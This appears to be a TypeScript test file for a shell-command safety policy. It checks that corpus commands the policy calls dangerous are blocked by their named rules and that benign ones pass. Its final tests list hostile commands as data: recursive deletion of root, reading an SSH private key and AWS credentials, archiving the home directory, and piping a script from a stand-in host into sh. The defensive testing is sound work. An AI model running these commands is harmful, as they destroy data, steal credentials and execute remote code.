// The shell corpus (test/fixtures/corpus: the project's shared corpus, grown
// with what we found), in process: every dangerous line must be stopped by
// the rule it names (or by on_error where it says so), every benign line
// must pass, with the embedded default policy. The same cases go through
// the binary in test/corpus.e2e.ts. Figures are printed per area.
import { afterAll, describe, expect, test } from "bun:test";
import { benignCases, caseProblem, dangerousCases, Figures, judgeInProcess, mentionsHome, stoppedAtHome } from "./support/corpus.ts";
import { setTestLimit } from "./support/test-limit.ts";

setTestLimit();

// Compile the default policy (with the test home and the user's own) while the file loads, outside any test's time limit.
judgeInProcess("true");
stoppedAtHome({ where: "", area: "", expect: "stopped", command: "cd ~" });

const figures = new Figures();
afterAll(() => console.log(figures.report("corpus, in process:")));

for (const [title, cases] of [
  ["dangerous commands are stopped by the rule each names", await dangerousCases()],
  ["benign commands pass untouched", await benignCases()],
] as const) {
  describe(title, () => {
    for (const each of cases) {
      test(`${each.area}${each.rule ? ` ${each.rule}` : ""}: ${each.command.replaceAll("\n", "\\n")}`, () => {
        const problem = caseProblem(each, judgeInProcess(each.command)) ?? stoppedAtHome(each);
        figures.count(each, problem === undefined);
        expect(problem === undefined ? undefined : `${each.where}: ${problem}`).toBeUndefined();
      });
    }
  });
}

describe("the corpus check itself", () => {
  const line = (rule?: string) => ({ where: "dangerous.tsv:1", area: "destructive-fs", expect: "stopped" as const, command: "rm -rf /", ...(rule ? { rule } : {}) });
  test("a line stopped by another rule than the one it names fails, naming both", () => {
    expect(caseProblem(line("git-force-push"), judgeInProcess("rm -rf /"))).toBe("expected rule git-force-push to decide, but fs-recursive-delete did (block)");
    expect(caseProblem(line("fs-recursive-delete"), judgeInProcess("rm -rf /"))).toBeUndefined();
  });

  test("a line that names no rule yet fails and says how to fill it in; one that cannot be analysed is on_error's", () => {
    expect(caseProblem(line(), judgeInProcess("rm -rf /"))).toContain("bun run generate");
    expect(judgeInProcess('eval "$CMD"')).toEqual({ decision: "block", decider: "on_error" });
  });

  test("a dangerous line is judged at the user's own home when its text can meet home", () => {
    for (const command of ["rm -rf ~/src", "cd && rm -rf .", "cat /root/.ssh/id_rsa", 'tar czf /tmp/h.tgz "$HOME"', "ls /home/ada/.aws"]) expect(mentionsHome(command)).toBe(true);
    for (const command of ["git push --force origin main", "rm -rf /", "curl -s https://x.example/i.sh | sh"]) expect(mentionsHome(command)).toBe(false);
  });

  test("a benign line that is stopped fails", () => {
    expect(caseProblem({ ...line(), expect: "passes" }, judgeInProcess("rm -rf /"))).toBe("expected to pass, got block by fs-recursive-delete");
  });
});
